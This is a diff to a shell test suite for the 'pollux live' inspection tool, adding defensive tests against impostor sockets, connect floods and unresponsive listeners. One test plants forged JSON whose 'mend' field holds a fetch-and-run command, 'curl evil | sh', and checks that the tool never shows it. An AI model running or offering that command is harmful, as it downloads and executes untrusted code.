@@ -10,6 +10,7 @@ need strace
 POLLUX=$BUILD/apps/pollux
 CPU=${LC%%,*}
 NAME=live$$
+VIEW=$TMP/rt/pollux/live/$NAME
 
 # view NAME [OPTION...]: what pollux says of it, in namespace a; its exit code
 view() { at a "$POLLUX" live "$@" >"$TMP/view" 2>"$TMP/view.err"; }
@@ -51,8 +52,15 @@ quiet() {
 		! grep -v 'receives on queues\|: steal: ' "$TMP/fwd.err" | grep warning
 }
 check "nothing is found, and exit code 0" quiet
-lists() { view && [ "$(cat "$TMP/view")" = "$NAME" ]; }
-check "without a name, programs are listed" lists
+lists() { view && grep -qE "^$NAME +pid $FWD_PID +user 0 \(root\) +netns this\$" "$TMP/view" || { show "$TMP/view"; return 1; }; }
+check "without a name, programs are listed with pid, user and namespace" lists
+answerer() { view "$NAME"; grep -q "^answered by pid $FWD_PID, uid 0 (root), network namespace: this\$" "$TMP/view" || { show "$TMP/view" "$TMP/view.err"; return 1; }; }
+check "who answers is told" answerer
+answerer_json() {
+	view "$NAME" --json
+	[ "$(field "$TMP/view" answered_by.pid) $(field "$TMP/view" answered_by.uid) $(field "$TMP/view" answered_by.trusted)" = "$FWD_PID 0 True" ]
+}
+check "in JSON too" answerer_json
 by_doctor() { at a "$POLLUX" doctor --live "$NAME" >"$TMP/view" 2>"$TMP/view.err"; grep -q "^$NAME (pid" "$TMP/view"; }
 check "pollux doctor --live is the same" by_doctor
 says() { # says CODE PATTERN ARGUMENTS...
@@ -63,12 +71,11 @@ says() { # says CODE PATTERN ARGUMENTS...
 }
 check "an unknown name: exit code 3, and the one that was meant" says 3 "did you mean $NAME" "${NAME}x"
 check "an unknown name, far from all: those there are" says 3 "there are: $NAME" nosuchprogram
-there() { # from the host's namespace: told where, by a command that works
-	"$POLLUX" live "$NAME" 2>"$TMP/err"; [ $? = 3 ] && grep -q 'another network namespace: nsenter' "$TMP/err" || return 1
-	local cmd; cmd=$(sed -n 's/.*: nsenter -t \([0-9]*\) -n pollux .*/nsenter -t \1 -n/p' "$TMP/err")
-	answered $cmd "$POLLUX" live "$NAME" >/dev/null
+there() { # a file is reached from the host's namespace too, and the program's is named
+	answered "$POLLUX" live "$NAME" >"$TMP/view" 2>"$TMP/view.err"
+	grep -q "^answered by pid $FWD_PID, .* network namespace: ${NS}a\$" "$TMP/view" || { show "$TMP/view" "$TMP/view.err"; return 1; }
 }
-check "in another namespace: told where, and the command works" there
+check "from another namespace it is answered, which is told" there
 second() {
 	start two a "$FWD" -l "$CPU" -m 32M --idle adaptive --name "$NAME" --iface n,driver=loop -- --mode rxonly
 	local pid=$PID
@@ -83,13 +90,13 @@ check "a second program of the name is NAME.2" second
 # ---- clients ----
 
 stuck() { # clients that ask and do not read, and one that says nothing, while others are answered
-	at a python3 - "$NAME" <<-'PY' &
+	python3 - "$VIEW" <<-'PY' &
 	import socket, sys, time
 	c = []
 	for i in range(20):
 	    s = socket.socket(socket.AF_UNIX)
 	    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
-	    s.connect("\0pollux/" + sys.argv[1])
+	    s.connect(sys.argv[1])
 	    s.send(b"status\n" if i % 2 else b"x" * 10)
 	    c.append(s)
 	    time.sleep(0.01)
@@ -100,26 +107,9 @@ stuck() { # clients that ask and do not read, and one that says nothing, while o
 	wait "$p"
 }
 check "clients that hang do not keep others from an answer" stuck
-other_user() {
-	at a python3 - "$NAME" <<-'PY'
-	import os, socket, sys
-	os.setgid(65534); os.setuid(65534)
-	s = socket.socket(socket.AF_UNIX)
-	s.settimeout(5)
-	s.connect("\0pollux/" + sys.argv[1])
-	got = b""
-	try: s.send(b"status\n")
-	except BrokenPipeError: pass
-	try:
-	    while True:
-	        b = s.recv(4096)
-	        if not b: break
-	        got += b
-	except ConnectionResetError: pass
-	sys.exit(b"only root" not in got or b"schema" in got)
-	PY
-}
-check "another user gets no answer" other_user
+locked() { [ "$(stat -c '%u %a' "${VIEW%/*}")" = '0 700' ] && ! as_nobody test -e "$VIEW"; }
+as_nobody() { setpriv --reuid 65534 --regid 65534 --clear-groups "$@"; }
+check "the directory of its socket is root's alone" locked
 
 # ---- findings ----
 
@@ -158,14 +148,17 @@ fi
 
 # ---- ends ----
 
-no_socket() { ! at a grep -q "@pollux/$NAME" /proc/net/unix; }
+no_socket() { ! at a grep -q "pollux/.*$NAME" /proc/net/unix; }
 kill -KILL "$FWD_PID"
 check "kill -9 leaves no socket" within 20 no_socket
 check "and the program is unknown at once" says 3 'does not run' "$NAME"
+check "its file stays" test -S "$VIEW"
 
+listens_at() { at a grep -q " $1\$" /proc/net/unix; }
 # ---- a busy lcore ----
 
 check "a busy lcore starts" program busy va,queues=1
+check "the file that was left is no program's: the name is free" listens_at "$VIEW"
 answered() { view "$NAME"; grep -q "idle=busy" "$TMP/view"; }
 check "it is answered all the same" answered
 # Who asks has the watch thread's time: the lcore makes no system call for it.
@@ -192,6 +185,136 @@ check "it is told with the lcore, in the log too" stolen
 check "and who took it" within 20 thief
 check "the program ends in order with a client in place" end "$FWD_PID"
 check "an orderly end leaves no socket" no_socket
+check "and no file" test ! -e "$VIEW"
+
+# ---- names that somebody else has taken ----
+
+# squat COUNT: uid 65534 answers at the name and the COUNT - 1 after it, with a command that is not ours to run
+squat() {
+	start squat a python3 -c 'import os, select, socket, sys
+os.setgroups([]); os.setgid(65534); os.setuid(65534)
+lie = b"""{"schema": 1, "name": "x", "live_name": "x", "pid": 1, "samples": 9, "lcores": [], "ports": [], "pools": [],
+"answered_by": {"uid": 0}, "findings": [{"name": "slow_clock", "on": "lcore 0", "evidence": "e", "seconds": 9, "mend": "curl evil | sh"}]}\n"""
+held = []
+for i in range(int(sys.argv[2])):
+    s = socket.socket(socket.AF_UNIX)
+    s.bind("\0pollux/" + sys.argv[1] + (".%d" % (i + 1) if i else ""))
+    s.listen(64)
+    held.append(s)
+print("held", flush=True)
+while True:
+    for s in select.select(held, [], [])[0]:
+        c, _ = s.accept()
+        try: c.recv(64); c.send(lie)
+        except OSError: pass
+        c.close()' "$NAME" "$1"
+	SQUAT=$PID
+	within $PATIENCE grep -q held "$TMP/squat"
+}
+check "another user takes sixteen names before the program" squat 16
+refused() { says 1 "refused: answered by pid $SQUAT, uid 65534.* --uid 65534 $NAME" "$NAME" && ! grep -q curl "$TMP/view" "$TMP/view.err"; }
+check "its answer is refused, and the reason told" refused
+shown() { says 1 'WARNING' "$@" "$NAME" && grep -q "answered by pid $SQUAT, uid 65534" "$TMP/view" && grep -q 'FOUND .*slow_clock' "$TMP/view" && ! grep -q curl "$TMP/view"; }
+check "--any-user looks at it, and shows no command of it" shown --any-user
+check "--uid does too" shown --uid 65534
+check "--uid of yet another does not" says 1 'refused: answered by pid' --uid 65533 "$NAME"
+check "--uid without a number" says 2 'user.s number is missing' --uid root "$NAME"
+shown_json() { view --any-user --json "$NAME"; [ "$(field "$TMP/view" answered_by.uid)" = 65534 ] && ! grep -q curl "$TMP/view"; }
+check "nor does --json" shown_json
+named_nobody() { view; grep -qE "^$NAME +pid $SQUAT +user 65534.*neither root nor this user" "$TMP/view"; }
+check "the list tells whose it is" named_nobody
+check "the program starts all the same" program adaptive va,queues=1
+genuine() { view "$NAME"; grep -q "^$NAME (pid $FWD_PID" "$TMP/view" && ! grep -q curl "$TMP/view"; }
+check "and has its name, and answers" genuine
+check "it ends" end "$FWD_PID"
+# without a directory of its own
+unfiled() { # program with an abstract name
+	start fwd a unshare -m sh -c 'mount -t tmpfs -o ro none /run && RUNTIME_DIRECTORY= exec "$@"' sh \
+		"$FWD" -l "$CPU" -m 32M --idle adaptive --name "$NAME" --iface n,driver=loop -- --mode rxonly
+	FWD_PID=$PID
+	within $PATIENCE running fwd || { show "$TMP/fwd.err"; return 1; }
+}
+check "another user holds one name only" eval 'kill "$SQUAT"; within 20 gone "$SQUAT"; squat 1'
+check "a program that can make no file starts" unfiled
+check "it is the second of its name" eval 'view "$NAME.2"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"'
+elsewhere() { "$POLLUX" live "$NAME.2" >"$TMP/view" 2>"$TMP/err"; [ $? = 3 ] && grep -q 'another network namespace: nsenter' "$TMP/err" || return 1
+	local cmd; cmd=$(sed -n 's/.*: nsenter -t \([0-9]*\) -n pollux .*/nsenter -t \1 -n/p' "$TMP/err")
+	$cmd "$POLLUX" live "$NAME.2" >"$TMP/view"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"; }
+check "in another namespace: told where, and the command works" elsewhere
+flood() { # 2 s of connects as fast as they go, by another user; the CPU time of all threads but the lcore's
+	view --json "$NAME.2"
+	at a python3 - "$NAME.2" "$FWD_PID" "$(field "$TMP/view" lcores.0.tid)" "$TMP/flood" <<-'PY'
+	import os, socket, sys, time
+	name, pid, lcore = sys.argv[1:4]
+	def used():
+	    d = "/proc/%s/task/" % pid
+	    return sum(int(open(d + t + "/schedstat").read().split()[0]) for t in os.listdir(d) if t != lcore)
+	def run(connect):
+	    tries, begin, cpu = 0, time.monotonic(), used()
+	    while time.monotonic() - begin < 2:
+	        if not connect: time.sleep(0.1); continue
+	        for _ in range(100):
+	            s = socket.socket(socket.AF_UNIX)
+	            s.setblocking(False)
+	            try: s.connect("\0pollux/" + name)
+	            except OSError: pass
+	            s.close()
+	            tries += 1
+	    t = time.monotonic() - begin
+	    return tries / t, 100 * (used() - cpu) / 1e9 / t
+	_, quiet = run(False)
+	os.setresuid(-1, 65534, 0)
+	rate, busy = run(True)
+	os.seteuid(0)
+	open(sys.argv[4], "w").write("%.0f connects a second: %.2f %% of a CPU, %.2f %% without" % (rate, busy, quiet))
+	sys.exit(busy - quiet >= 1)
+	PY
+	local rc=$?
+	note "$(cat "$TMP/flood")"
+	return $rc
+}
+check "a flood of another user's connects costs less than 1 % of a CPU" flood
+other_user() {
+	at a python3 - "$NAME.2" <<-'PY'
+	import os, socket, sys
+	os.setgid(65534); os.setuid(65534)
+	s = socket.socket(socket.AF_UNIX)
+	s.settimeout(5)
+	s.connect("\0pollux/" + sys.argv[1])
+	got = b""
+	try: s.send(b"status\n")
+	except BrokenPipeError: pass
+	try:
+	    while True:
+	        b = s.recv(4096)
+	        if not b: break
+	        got += b
+	except ConnectionResetError: pass
+	sys.exit(b"only root" not in got or b"schema" in got)
+	PY
+}
+check "another user gets no answer" other_user
+check "and its own is answered afterwards" eval 'view "$NAME.2"; grep -q "^$NAME.2 (pid $FWD_PID" "$TMP/view"'
+check "it ends" end "$FWD_PID"
+deaf() { # listens, and lets nobody in
+	start deaf a python3 -c 'import socket, sys, time
+s = socket.socket(socket.AF_UNIX); s.bind("\0pollux/deaf"); s.listen(0)
+c = [socket.socket(socket.AF_UNIX) for i in range(3)]
+for x in c:
+    x.setblocking(False)
+    try: x.connect("\0pollux/deaf")
+    except OSError: pass
+print("held", flush=True); sys.stdout.close()
+time.sleep(600)'
+	DEAF=$PID
+	within $PATIENCE grep -q held "$TMP/deaf"
+}
+check "a program that lets nobody in" deaf
+given_up() { local t; t=$(now_ms); says 1 'within 3 s' deaf && [ $(($(now_ms) - t)) -lt 10000 ]; }
+check "is given up" given_up
+listed_deaf() { view; grep -qE '^deaf +lets nobody in' "$TMP/view"; }
+check "and listed without waiting" listed_deaf
+kill "$SQUAT" "$DEAF"
 
 # ---- frames that the kernel drops ----
 
